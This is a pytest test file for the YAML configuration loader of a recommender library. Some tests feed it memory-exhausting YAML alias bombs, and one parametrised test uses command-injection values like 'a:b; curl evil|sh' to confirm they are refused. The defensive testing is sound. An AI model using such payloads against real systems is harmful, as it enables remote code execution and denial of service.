import re
import shlex
from pathlib import Path
from typing import get_args

import pytest
import yaml
from hypothesis import example, given
from hypothesis import strategies as st

from tfllmrec import config as configs
from tfllmrec.config import (
    DistillationConfig,
    ExperimentConfig,
    ItemWeightSettings,
    ModelConfig,
    TextConfig,
    TrainingConfig,
    TuningConfig,
    contradictions,
    dump_config,
    load_config,
    paraphrase_option,
    parse_config,
    settings_of,
    settings_without_effect,
)
from tfllmrec.errors import ConfigError

CONFIGS = sorted((Path(__file__).parents[1] / "configs").glob("*.yaml"))


def config(tmp_path, text, *overrides):
    path = tmp_path / "a.yaml"
    path.write_text(text, encoding="utf-8")
    return load_config(path, overrides).config


def refusal(tmp_path, text, *overrides):
    with pytest.raises(ConfigError) as refused:
        config(tmp_path, text, *overrides)
    return str(refused.value)


def test_base_is_the_folder_of_the_file(tmp_path):
    (tmp_path / "a.yaml").write_text("data: {source: raw}")
    loaded = load_config(tmp_path / "a.yaml")
    assert loaded.base == tmp_path
    assert loaded.config.data.source == "raw"


@pytest.mark.parametrize("text", ["", "# nothing\n", "data:\ntraining:\n", "{}"])
def test_nothing_said_is_the_defaults(tmp_path, text):
    assert config(tmp_path, text) == ExperimentConfig()


@pytest.mark.parametrize("path", CONFIGS, ids=lambda p: p.name)
def test_published_configs_load_and_open_with_their_command(path):
    load_config(path)
    head = path.read_text().partition("data:")[0]
    assert f"tfllmrec fit configs/{path.name}" in head
    assert "Time on two cores" in head
    assert "Expected" in head


# --- Overrides --------------------------------------------------------------------------------------------------------


def test_overrides_are_yaml_and_win(tmp_path):
    overrides = ["training.epochs=7", "model.terms=[meaning]", "text.template=null", "data.columns.user_id=who"]
    made = config(tmp_path, "training: {epochs: 3, batch_size: 8}\ntext: {template: x}", *overrides)
    assert (made.training.epochs, made.training.batch_size) == (7, 8)
    assert (made.model.terms, made.text.template, made.data.columns) == (["meaning"], None, {"user_id": "who"})


def test_an_equals_sign_in_the_value_stays(tmp_path):
    assert config(tmp_path, "", "text.template='{title}=x'").text.template == "{title}=x"


def test_scientific_notation_without_a_dot_is_a_number(tmp_path):
    # YAML 1.1 reads 2e-4 as a string.
    assert config(tmp_path, "", "training.learning_rate=2e-4").training.learning_rate == 0.0002


def test_a_name_of_a_field_may_contain_dots(tmp_path):
    made = config(tmp_path, "", "data.fields.event.image.use=false", "data.fields.dwell={kind: number}")
    assert made.data.fields["event.image"].use is False and made.data.fields["dwell"].kind == "number"


@pytest.mark.parametrize("override", ["training.epochs", "=3", "training.=3", ".epochs=3"])
def test_an_override_that_is_none(tmp_path, override):
    assert "expected SECTION.KEY=VALUE" in refusal(tmp_path, "", override)


def test_an_override_below_a_single_value(tmp_path):
    said = refusal(tmp_path, "training: {epochs: 3}", "training.epochs.most=3")
    assert said.startswith("--set training.epochs.most: training.epochs is a single value (3)")


def test_an_override_of_broken_yaml(tmp_path):
    assert refusal(tmp_path, "", "evaluation.ks=[5").startswith("--set evaluation.ks=[5, line 1")


@pytest.mark.parametrize(
    ("settings", "expected"),
    [
        ({}, []),
        ({"tuning": {"rank": 8}}, []),  # the default
        ({"tuning": {"rank": 4}}, ["tuning.rank has no effect with text.mode=frozen"]),
        ({"text": {"mode": "lora"}, "tuning": {"rank": 4, "window": 5, "synonyms": "words.txt"}}, []),
        (
            {"text": {"mode": "prefix"}, "tuning": {"rank": 4, "length": 4, "joint": "adapter"}},
            ["tuning.joint has no effect with text.mode=prefix", "tuning.rank has no effect with text.mode=prefix"],
        ),
        (
            {"text": {"mode": "joint"}, "tuning": {"joint": "adapter", "rank": 4, "width": 8, "itself": 0.1}},
            [
                "tuning.itself has no effect with text.mode=joint and tuning.joint=adapter",
                "tuning.rank has no effect with text.mode=joint and tuning.joint=adapter",
            ],
        ),
        ({"split": {"kind": "random", "test_share": 0.2, "validation_share": 0.2}}, []),
        (
            {"split": {"kind": "leave_last_out", "test_share": 0.2, "test_events": "0:5"}},
            [
                "split.test_share has no effect with split.kind=leave_last_out",
                "split.test_events has no effect with split.kind=leave_last_out",
            ],
        ),
        (
            {"split": {"kind": "fixed", "test_share": 0.2, "validation_share": 0.2, "test_events": "0:5"}},
            ["split.test_share has no effect with split.kind=fixed"],
        ),
        (
            {"split": {"kind": "cold_items", "test_share": 0.2, "test_events": "0:5"}},
            ["split.test_events has no effect with split.kind=cold_items"],
        ),
        ({"split": {"kind": "cold_domain", "domain": "a", "known_events": 2, "test_share": 0.2}}, []),
        (
            {"split": {"kind": "random", "domain": "a", "known_events": 2}},
            [
                "split.domain has no effect with split.kind=random",
                "split.known_events has no effect with split.kind=random",
            ],
        ),
        ({"distillation": {"epochs": 2}}, ["distillation.epochs has no effect with text.query_encoder=same"]),
        (
            {"model": {"user_text": True, "fields": False}},
            ["model.user_text has no effect without model.fields=true and meaning among model.terms"],
        ),
        (
            {"model": {"terms": ["behaviour"], "item_fields": "all", "blocks": 1}, "training": {"patience": 2}},
            [
                "model.item_fields has no effect without meaning or feedback among model.terms",
                "training.patience has no effect without meaning or feedback among model.terms",
                "model.blocks has no effect without meaning among model.terms",
            ],
        ),
        (
            {"model": {"terms": ["feedback"], "scene": "page"}, "item_weights": {"l2": 50, "decay": 1, "kinds": False}},
            [
                "model.scene has no effect without meaning among model.terms",
                "item_weights.l2 has no effect without behaviour among model.terms",
                "item_weights.kinds has no effect without behaviour among model.terms",
            ],
        ),
        ({"model": {"fields": False, "scene": "page"}}, ["model.scene has no effect without model.fields=true"]),
        (
            {"model": {"scene": None, "scene_experts": 2}},
            ["model.scene_experts has no effect without a category of requests that model.scene names"],
        ),
        ({"training": {"negatives": 0, "log_q": 0.5}}, ["training.log_q has no effect with training.negatives=0"]),
        ({"ranking": {"focal_gamma": 2.0}}, []),
        (
            {"ranking": {"epochs": 0, "focal_gamma": 2.0}},
            ["ranking.focal_gamma has no effect with ranking.epochs=0"],
        ),
        (
            {"text": {"mode": "lora"}, "tuning": {"paraphrase_similarity": 0.9}},
            ["tuning.paraphrase_similarity has no effect without tuning.paraphrase"],
        ),
        (
            {"text": {"query_encoder": "static"}, "distillation": {"buckets": 9, "layers": 3, "hidden": 4}},
            [
                "distillation.layers has no effect with text.query_encoder=static",
                "distillation.hidden has no effect with text.query_encoder=static",
            ],
        ),
    ],
)
def test_settings_that_others_switch_off_are_named(settings, expected):
    assert settings_without_effect(parse_config(settings)) == expected


def test_experts_of_scenes_have_no_effect_on_data_without_scenes():
    config = parse_config({"model": {"scene_experts": 2}})
    assert settings_without_effect(config) == []
    (line,) = settings_without_effect(config, scenes=False)
    assert line == "model.scene_experts has no effect without a category of requests that model.scene names"


def test_each_mode_and_tower_lists_settings_that_exist():
    modes, towers = (get_args(TextConfig.model_fields[name].annotation) for name in ("mode", "query_encoder"))
    assert set(modes) == {"frozen", "joint", *configs._OF_MODE} and set(towers) == {"same", *configs._OF_TOWER}
    assert configs._OF_PAIRS.union(*configs._OF_MODE.values()) <= set(TuningConfig.model_fields)
    assert set().union(*configs._OF_TOWER.values()) <= set(DistillationConfig.model_fields)


# --- Errors: the key, the expected and the actual value, the nearest valid one ---------------------------------------


@pytest.mark.parametrize(
    ("text", "overrides", "expected"),
    [
        ("trainin: {epochs: 3}", [], "trainin is not a setting (nearest: 'training'); expected one of data, split"),
        ("training: {epoch: 3}", [], "training.epoch is not a setting (nearest: 'training.epochs')"),
        ("epochs: 3", [], "epochs is not a setting (nearest: 'training.epochs')"),
        ("training: {blocks: 3}", [], "training.blocks is not a setting (nearest: 'model.blocks')"),
        ("", ["training.epoch=3"], "--set: training.epoch is not a setting (nearest: 'training.epochs')"),
        ("", ["data.fields.image.kin=text"], "data.fields.image.kin is not a setting (nearest: 'kind')"),
        ("training: {epochs: many}", [], "training.epochs: expected a valid integer, got 'many'."),
        ("training: {epochs: 0}", [], "training.epochs: expected greater than or equal to 1, got 0."),
        ("seed: null", [], "seed: expected a valid integer, got null."),
        ("split: {kind: global_tim}", [], "got 'global_tim' (nearest: 'global_time')"),
        ("item_weights: {rank: 0}", [], "item_weights.rank: expected greater than or equal to 1, or 'all', got 0."),
        ("item_weights: {kinds: 3}", [], "item_weights.kinds: expected true, false or factors by kind, got 3."),
        ("item_weights: {kinds: {view: -1}}", [], "item_weights.kinds.view: expected greater than or equal to 0"),
        ("model: {terms: [meanin]}", [], "model.terms.0: expected 'meaning', 'feedback' or 'behaviour'"),
        ("data: {columns: {user_id: 3}}", [], "data.columns.user_id: expected a valid string, got 3."),
        (
            "text: {mode: adapter, query_encoder: layers}",
            [],
            "expected an encoder without an adapter or a prefix, found text.mode=adapter",
        ),
        (
            "text: {mode: prefix, query_encoder: layers}",
            [],
            "expected an encoder without an adapter or a prefix, found text.mode=prefix",
        ),
        (
            "text: {encoder: use, mode: top_layers}",
            [],
            "a.yaml: text.mode: expected frozen or joint or adapter or full",
        ),
        ("", ["text.encoder=use", "text.mode=joint"], "tuning.joint: expected adapter or full with text.encoder=use"),
        ("text: {encoder: minlm}", [], "text.encoder: expected minilm, e5, use or auto, or the handle of a TF Hub enc"),
        ("text: {encoder: minlm}", [], "found 'minlm' (nearest: 'minilm')"),
        ("text: {encoder: E 5, preprocessor: /a/b}", [], "found 'E 5' (nearest: 'e5')"),
        ("", ["text.encoder=MiniLM+e5"], "--set: text.encoder: expected minilm, e5, use or auto"),
        ("text: {encoder: auto+e5}", [], "text.encoder: expected the names of all encoders, because auto stands for a"),
        ("text: {encoder: use, pretrain_epochs: 2}", [], "text.pretrain_epochs: expected 0 with text.encoder=use"),
        ("text: {encoder: use, query_encoder: layers}", [], "expected same or hashed_ngrams or static with text.enc"),
        ("text: {encoder: use+e5, precision: bfloat16}", [], "text.precision: expected float32 with text.encoder=use"),
        ("text: {encoder: minilm+e5, mode: joint}", [], "text.mode: expected frozen with text.encoder=minilm+e5"),
        ("text: {encoder: e5+/a/bert, query_encoder: static}", [], "text.query_encoder: expected same or hashed_ngram"),
        ("text: {encoder: minilm+minilm}", [], "expected different names of bundled encoders"),
        ("text: {encoder: minilm+/a/bert+/b/bert}", [], "at most one TF Hub handle, joined by '+', found 'minilm+/a/b"),
        ("text: {encoder: /a/bert, precision: bfloat16}", [], "text.precision: expected float32 with text.encoder=/a"),
        ("training: 3", [], "training: expected keys of its own"),
        ("", ["training=3"], "--set: training: expected keys of its own"),
        ("- 1\n- 2", [], "expected sections such as 'data:', got [1, 2]"),
        ("1: x", [], "a.yaml: "),
        ("? [a, b]\n: x", [], "this is not valid YAML"),
        ("a: [1\n", [], "a.yaml, line 2"),
        ("seed: 1\ntraining: {}\nseed: 2", [], "line 3, column 1: this is not valid YAML: 'seed' stands here twice"),
        ("training:\n  epochs: 1\n  epochs: 2", [], "'epochs' stands here twice"),
        ("a: \x00", [], "this is not valid YAML"),
    ],
)
def test_refusals(tmp_path, text, overrides, expected):
    said = refusal(tmp_path, text, *overrides)
    assert expected in said
    assert "pydantic" not in said
    assert "ValidationError" not in said


def test_settings_that_fit_their_encoder_are_accepted():
    for text in (
        {"encoder": "use", "mode": "full", "query_encoder": "static"},
        {"encoder": "auto", "mode": "prefix", "precision": "bfloat16", "pretrain_epochs": 1},
        {"encoder": "minilm+e5", "precision": "bfloat16", "query_encoder": "hashed_ngrams"},
        {"encoder": "/a/c++/bert", "mode": "lora"},  # a path, not three encoders
    ):
        ExperimentConfig(text=text)
    assert ExperimentConfig(text={"encoder": "minilm + e5"}).text.encoder == "minilm+e5"
    ExperimentConfig(text={"encoder": "use", "mode": "joint"}, tuning={"joint": "adapter"})


def test_every_wrong_key_is_named(tmp_path):
    said = refusal(tmp_path, "training: {epochs: no, patience: no}", "seed=x")
    assert len(said.splitlines()) == 3
    assert [line.rpartition(": expected")[0].split(" ")[-1] for line in said.splitlines()] == [
        "training.epochs",
        "training.patience",
        "seed",
    ]


def test_a_missing_file_names_the_nearest(tmp_path):
    (tmp_path / "beauty.yaml").touch()
    with pytest.raises(ConfigError, match=r"beuty.yaml does not exist \(nearest: '.*/beauty.yaml'\)"):
        load_config(tmp_path / "beuty.yaml")


def test_a_folder_and_another_encoding(tmp_path):
    with pytest.raises(ConfigError, match="is a folder"):
        load_config(tmp_path)
    (tmp_path / "a.yaml").write_bytes(b"data: {name: caf\xe9}")
    with pytest.raises(ConfigError, match="cannot be read"):
        load_config(tmp_path / "a.yaml")


# --- Round trip -------------------------------------------------------------------------------------------------------


def test_what_is_written_reads_back_the_same(tmp_path):
    before = parse_config(
        {
            "data": {"events": "a/b.csv", "more_items": ["c.csv"], "columns": {"user_id": "who"}, "name": "café"},
            "training": {"learning_rate": 0.00002},
            "model": {"terms": ["feedback"]},
        }
    )
    assert config(tmp_path, dump_config(before)) == before


@given(st.text(), st.floats(1e-12, 1e6), st.none() | st.integers(1, 10**9))
@example("\x85", 1.0, None)
def test_any_text_and_number_survives(text, rate, epochs):
    before = ExperimentConfig()
    before.text.template, before.training.learning_rate, before.training.epochs = text, rate, epochs
    assert parse_config(yaml.safe_load(dump_config(before))) == before


def test_every_setting_is_written(tmp_path):
    written = yaml.safe_load(dump_config(ExperimentConfig()))
    assert list(written) == list(ExperimentConfig.model_fields)
    assert written["training"]["epochs"] is None


# --- Contradictions ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("asked", "resolved", "expected"),
    [
        ({}, {"training": {"epochs": 5}}, []),
        ({"training": {"epochs": 5}}, {"training": {"epochs": 5}}, []),
        ({"training": {"epochs": 5}}, {"training": {"epochs": 6}}, ["training.epochs: asked for 5, there is 6"]),
        ({"training": {"epochs": None}}, {"training": {"epochs": 6}}, []),
        ({"split": {"kind": "auto"}}, {"split": {"kind": "random"}}, []),
        ({"data": {"source": "a"}}, {"data": {"source": "data"}}, []),
        ({"seed": 1}, {}, ["seed: asked for 1, there is 42"]),
        ({"evaluation": {"ks": [5]}}, {}, ["evaluation.ks: asked for [5], there is [5, 10, 20]"]),
    ],
)
def test_contradictions(asked, resolved, expected):
    assert contradictions(parse_config(asked), parse_config(resolved)) == expected


# --- Files that are made to exhaust the memory, and code --------------------------------------------------------------

STEPS = range(1, 12)
BOMB = "a0: &a0 [x]\n" + "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in STEPS)
MERGED = "a0: &a0 {k: 1}\n" + "".join(f"a{i}: &a{i} {{<<: [{', '.join([f'*a{i - 1}'] * 9)}]}}\n" for i in STEPS)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (BOMB, r"line 6, column 5: expected at most 20,000 values"),
        (f"{BOMB}evaluation: {{ks: *a11}}", "expected at most 20,000 values"),
        (MERGED, "expected at most 20,000 values"),
        ("data: &a {columns: *a}", r"\*a contains itself"),
        ("[" * 1000, "expected at most 16 levels of values"),
        ("\n".join(" " * depth + "a:" for depth in range(100)), "expected at most 16 levels of values"),
        ("? " * 100 + "a", "expected at most 16 levels of values"),
        ("seed: 1 #" + "x" * 1_000_000, "expected at most 1,000,000 bytes of YAML"),
        (
            f"training: {{epochs: !!int 1{':1' * 500}}}",
            r"line 1, column 20: expected a number of at most 1,000 characters",
        ),
        (f"training: {{learning_rate: !!float 1{':1' * 500}.5}}", "expected a number of at most 1,000 characters"),
        (f"seed: !!int '1{':1' * 500}'", "expected a number of at most 1,000 characters"),
        (f"? 0x{'f' * 1000}\n: 1", "expected a number of at most 1,000 characters"),
    ],
)
def test_a_file_that_stands_for_far_more_than_a_config_is_refused(tmp_path, text, said):
    assert re.search(said, refusal(tmp_path, text))


def test_very_many_values_without_any_alias_are_refused(tmp_path, monkeypatch):
    assert len(config(tmp_path, "evaluation: {ks: [" + "1," * 200 + "]}").evaluation.ks) == 200
    monkeypatch.setattr(configs, "MAX_VALUES", 100)
    assert "expected at most" in refusal(tmp_path, "evaluation: {ks: [" + "1," * 200 + "]}")


def test_a_setting_that_is_too_large_is_refused_as_well():
    with pytest.raises(ConfigError, match=r"--set evaluation\.ks=.* levels"):
        parse_config({}, ["evaluation.ks=" + "[" * 100])
    with pytest.raises(ConfigError, match=r"--set seed=.* expected a number of at most 1,000 characters"):
        parse_config({}, [f"seed=!!int 1{':1' * 500}"])


def test_numbers_of_ordinary_length_and_long_texts_are_read(tmp_path):
    read = config(tmp_path, f"seed: 1_000\ndata: {{name: {'1x' * 5000}, encoding: '{'1' * 5000}'}}")
    assert (read.seed, read.data.name, read.data.encoding) == (1000, "1x" * 5000, "1" * 5000)


@pytest.mark.parametrize("rows", ["1:30", "0:20000", "10:59", ":5", "7:"])
def test_rows_of_test_events_are_no_numbers_in_base_60(rows):
    config = parse_config({}, [f"split.test_events={rows}", "split.kind=fixed"])
    assert config.split.test_events == config.split.named_events == rows
    assert parse_config(yaml.safe_load(dump_config(config))) == config
    assert parse_config({}, [f"split.test_events={rows}"]).split.named_events is None


def test_numbers_are_read_as_before():
    for text, value in {"0": 0, "-12": -12, "0x1f": 31, "010": 8, "0b11": 3, "1_0": 10, "1.5": 1.5, "-.5": -0.5,
                        "1.e+3": 1000.0, "2.5e-3": 0.0025, "1e-3": "1e-3", ".inf": float("inf"), "1:30": "1:30",
                        "1:30.5": "1:30.5", "12:00": "12:00"}.items():  # fmt: skip
        assert configs._parse_yaml(text, "test") == value


def test_aliases_of_ordinary_size_are_read(tmp_path):
    read = config(tmp_path, "evaluation: {ks: &ks [5, 10]}\ndata: &d {source: x}\ntext: {max_tokens: 32}\n")
    assert (read.evaluation.ks, read.data.source) == ([5, 10], "x")


def test_a_wrong_value_of_any_size_is_shown_in_part():
    bomb: list = ["x"]
    for _ in range(60):
        bomb = [bomb] * 9
    with pytest.raises(ConfigError) as raised:
        parse_config({"seed": bomb, "split": {"kind": bomb}, "data": bomb})
    assert len(str(raised.value)) < 1000


PARAPHRASE = "tuning: {paraphrase: 'words:back_and_forth'}"


def test_no_file_may_name_a_function_to_call(tmp_path):
    said = refusal(tmp_path, PARAPHRASE)
    assert "a.yaml sets tuning.paraphrase to words:back_and_forth, " in said
    assert "--set tuning.paraphrase=words:back_and_forth" in said
    for named in ("words:back_and_forth", "null", "other:function"):
        value = config(tmp_path, PARAPHRASE, f"tuning.paraphrase={named}").tuning.paraphrase
        assert value == (None if named == "null" else named)
    for named in ("a:b", "a:b,c.d:e"):
        assert config(tmp_path, "", f"tuning.paraphrase={named}").tuning.paraphrase == named
    assert "may not do that" in refusal(tmp_path, "tuning: {paraphrase: 'a:b,c:d'}")
    assert "may not do that" in refusal(tmp_path, PARAPHRASE, "tuning.rank=4")
    for text in ("", PARAPHRASE):
        assert config(tmp_path, text, "tuning={paraphrase: 'a:b'}").tuning.paraphrase == "a:b"


@pytest.mark.parametrize("value", ["'a:b; curl evil|sh'", "'a:b,curl evil'", "'a:b,'", "[a:b, a:b]", "3"])
def test_no_command_contains_a_value_that_is_no_function(tmp_path, value):
    said = refusal(tmp_path, f"tuning: {{paraphrase: {value}}}")
    assert said.startswith(f"{tmp_path}/a.yaml: tuning.paraphrase: expected ") and "--set" not in said


def test_a_command_allows_the_call_of_a_function():
    assert paraphrase_option("words:again") == " --set tuning.paraphrase=words:again"
    both = "words.german:there,words.english:back"
    assert shlex.split(paraphrase_option(both)) == ["--set", f"tuning.paraphrase={both}"]
    assert paraphrase_option(None) == ""


def test_the_config_of_a_run_records_it(tmp_path):
    path = tmp_path / "config.yaml"
    path.write_text(PARAPHRASE)
    assert load_config(path, of_run=True).config.tuning.paraphrase == "words:back_and_forth"


def test_the_data_that_a_run_was_begun_with_is_compared():
    asked = parse_config({"data": {"events": "other.csv", "columns": {"user_id": "who"}}})
    own = parse_config({"data": {"source": "data"}})
    assert contradictions(asked, own) == []
    source = {"events": "log.csv", "columns": {"user_id": "who"}}
    assert contradictions(asked, own, source) == ["data.events: asked for 'other.csv', there is 'log.csv'"]
    assert contradictions(parse_config({"data": {"source": "data"}}), own, source) == []
    fields = {"events": "log.csv", "fields": {"age": {"kind": "number"}}}
    asked = parse_config({"data": {"fields": {"age": {"kind": "number", "use": True}}}})  # states a default
    assert contradictions(asked, own, fields) == []
    asked.data.fields["age"].use = False
    assert len(contradictions(asked, own, fields)) == 1


# --- Configs of earlier versions --------------------------------------------------------------------------------------

OLD = """
model: {blocks: 3, item_weights: low_rank, item_weights_rank: 9, item_weights_decay: 0.7, item_weights_l2: null}
"""


def test_old_names_of_item_weights_are_read_from_run_folders_only(tmp_path):
    path = tmp_path / "config.yaml"
    path.write_text(OLD)
    read = load_config(path, of_run=True).config
    assert read == ExperimentConfig(
        model={"blocks": 3, "fields": False, "item_fields": "none", "scene": None},
        item_weights={"rank": 9, "decay": 0.7, "kinds": False},
    )
    path.write_text(dump_config(read).replace("item_weights:", "item_weights:\n  form: low_rank"))
    assert load_config(path, of_run=True).config == read
    path.write_text(dump_config(read).replace("item_weights:", "item_weights:\n  form: exact"))
    assert load_config(path, of_run=True).config.item_weights.rank == "all"
    assert "model.item_weights_rank is not a setting" in refusal(tmp_path, OLD)


def test_the_split_that_was_called_random_is_another_one_now(tmp_path):
    path = tmp_path / "config.yaml"
    path.write_text("split: {kind: random, test_share: 0.2}")
    assert load_config(path, of_run=True).config.split.kind == "leave_random_out"
    assert load_config(path).config.split.kind == "random"
    path.write_text(dump_config(parse_config({}, ["split.kind=random"])))
    assert load_config(path, of_run=True).config.split.kind == "random"


def test_settings_of_the_ranking_model_that_are_gone_are_dropped_from_run_folders_only(tmp_path):
    path = tmp_path / "config.yaml"
    path.write_text(old := "ranking: {keys: 3, held_out: 0.2, patience: 3}")
    assert load_config(path, of_run=True).config == ExperimentConfig(ranking={"keys": 3})
    assert "ranking.held_out is not a setting" in refusal(tmp_path, old)


def test_settled_item_weights_keep_what_is_set():
    settled = ItemWeightSettings(l2=7.0, text=0.0).settled()
    assert (settled.decay, settled.l2, settled.text) == (1.0, 7.0, 0.0)
    assert None not in settled.model_dump().values()


def test_settings_are_named_as_in_a_config():
    said = settings_of(model=ModelConfig(blocks=7), training=TrainingConfig())
    assert said["model.blocks"] == 7 and said["training.precision"] == "float32" and said["model.dropout"] is None
    assert len(said) == len(ModelConfig.model_fields) + len(TrainingConfig.model_fields)


@pytest.mark.parametrize(
    ("graph", "lines"),
    [
        ({}, []),
        ({"neighbours": 5}, ["graph.neighbours has no effect without graph.relations or graph.edges"]),
        ({"relations": ["text"], "support": 3}, ["graph.support has no effect without use among graph.relations"]),
        ({"relations": ["use"], "support": 3, "neighbours": 5}, []),
    ],
)
def test_settings_of_a_graph_that_are_not_read_are_named(graph, lines):
    assert settings_without_effect(parse_config({"graph": graph})) == lines


@pytest.mark.parametrize(
    ("graph", "read"), [({}, False), ({"relations": ["use"]}, False), ({"relations": ["use", "text"]}, True)]
)
def test_uses_of_a_graph_without_relations_that_a_model_reads_are_named(graph, read):
    config = parse_config({"graph": graph, "model": {"propagation": "lightgcn"}, "item_weights": {"graph": 30.0}})
    why = "has no effect without graph.edges, or text or values among graph.relations"
    unread = ["model.propagation", *(["item_weights.graph"] if graph else [])]  # without any graph, a fit refuses it
    assert settings_without_effect(config) == ([] if read else [f"{name} {why}" for name in unread])
    config.model.propagation, config.item_weights.graph = "none", 0.0  # in the config of an update
    assert settings_without_effect(config) == []


def test_a_graph_that_a_transferred_model_does_not_read_is_named():
    config = parse_config({"graph": {"relations": ["text"]}, "transfer": {"sources": ["films"], "method": "zero_shot"}})
    (line,) = settings_without_effect(config)
    assert line.startswith("graph has no effect on the model with transfer.method=zero_shot")
    config.model.propagation = "lightgcn"
    assert settings_without_effect(config) == []


def test_factors_of_domains_name_two_domains_of_joined_data():
    for key in ("a", "a>a", ">a", "a>b>c"):
        with pytest.raises(ConfigError, match="expected FROM>TO with two different domains"):
            parse_config({"item_weights": {"domains": {key: 0.0}}})
    config = parse_config({"item_weights": {"domains": {"a>b": 0.0}}})
    assert settings_without_effect(config) == []
    (line,) = settings_without_effect(config, joined=False)
    assert line == "item_weights.domains has no effect on data that is not joined"


def test_a_map_without_item_item_weights_is_named():
    config = parse_config({"item_weights": {"map": True}})
    assert settings_without_effect(config) == []
    config.model.terms = ["meaning", "feedback"]
    assert settings_without_effect(config) == ["item_weights.map has no effect without behaviour among model.terms"]


@pytest.mark.parametrize(
    ("transfer", "lines"),
    [
        ({"sources": ["films"], "method": "align", "alignment": "adversarial"}, []),
        ({"sources": ["films"], "method": "distil", "distil": 0.5}, []),
        (
            {"sources": ["films"], "alignment": "adversarial", "distil": 0.5},
            [
                "transfer.alignment has no effect without transfer.method=align",
                "transfer.distil has no effect without transfer.method=distil",
            ],
        ),
        ({"distil": 0.5}, ["transfer.distil has no effect without transfer.sources"]),
        *(({"sources": ["films"], "method": method, "same_users": True}, []) for method in ("joint", "map", "auto")),
        *(
            (
                {"sources": ["films"], "method": method, "same_users": True},
                ["transfer.same_users has no effect without transfer.method=joint or map or auto"],
            )
            for method in ("zero_shot", "align", "fine_tune", "distil")
        ),
    ],
)
def test_settings_of_other_methods_of_transfer_are_named(transfer, lines):
    assert settings_without_effect(parse_config({"transfer": transfer})) == lines
